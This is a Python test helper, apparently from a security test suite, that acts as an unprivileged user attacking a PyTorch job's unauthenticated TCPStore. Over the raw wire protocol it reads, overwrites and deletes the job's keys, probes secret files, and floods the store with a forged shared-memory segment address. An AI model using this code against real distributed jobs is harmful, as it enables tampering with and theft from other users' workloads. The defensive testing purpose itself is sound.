"""What a stranger does to a job with `--torch-store`. Runs alone, as another user: `python -I -S -c SOURCE < facts`.

torch's TCPStore asks for nothing, so everyone who reaches its port has the job's keys. The attempts are those of the
guide's table: some succeed, which is what `--torch-store` costs, and the others must not.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401 - looked up by socket, and unreadable for the other user
import json
import os
import socket
import struct
import sys

VALIDATE = b"\x00" + struct.pack("<I", 0x3C85F7CE)
SET, GET, CHECK, COUNT, DELETE = b"\x01", b"\x03", b"\x05", b"\x07", b"\x08"


def text(value: bytes) -> bytes:
    return struct.pack("<Q", len(value)) + value


def ask(address: tuple[str, int], request: bytes, num_bytes: int) -> bytes:
    """The first bytes of the answer."""
    with socket.create_connection(address, timeout=5) as sock:
        sock.sendall(VALIDATE + request)
        data = b""
        while len(data) < num_bytes:
            piece = sock.recv(num_bytes - len(data))
            if not piece:
                break
            data += piece
        return data


def main() -> None:
    facts = json.load(sys.stdin)
    os.setgroups([])
    os.setgid(facts["gid"])
    os.setuid(facts["uid"])
    store = (facts["store"][0], facts["store"][1])
    found: dict[str, object] = {}
    found["keys counted"] = struct.unpack("<q", ask(store, COUNT, 8))[0]
    found["key read"] = ask(store, GET + text(b"/note"), 8 + len(facts["note"]))[8:].decode()
    ask(store, SET + text(b"/note") + text(b"of a stranger"), 0)
    found["key written"] = ask(store, GET + text(b"/note"), 8 + 13)[8:].decode()
    found["key deleted"] = struct.unpack("<q", ask(store, DELETE + text(b"/gone"), 8))[0]
    # What was an exploit once: a segment of shared memory that is a file of the stranger.
    own = f"{facts['scratch']}/mine"
    file = open(own, "w+b")  # noqa: PTH123, SIM115 - kept open: the address names the descriptor
    file.truncate(1 << 20)
    os.chmod(own, 0o666)  # noqa: PTH101
    address = {"pid": os.getpid(), "fd": file.fileno(), "token": "0" * 32, "size_bytes": 1 << 20, "signature": "0" * 64}
    found["process files read"] = sum(map(_can_read, facts["secrets"]))
    print(json.dumps(found), flush=True)
    planted = SET + text(facts["segment"].encode()) + text(json.dumps(address).encode())
    with socket.create_connection(store, timeout=5) as sock:
        sock.sendall(VALIDATE)
        try:
            while True:  # over and over, while the ranks meet, until the job or the test is over
                sock.sendall(planted)
        except OSError:
            return


def _can_read(path: str) -> bool:
    try:
        with open(path, "rb") as file:  # noqa: PTH123
            return bool(file.read(1))
    except OSError:
        return False


main()
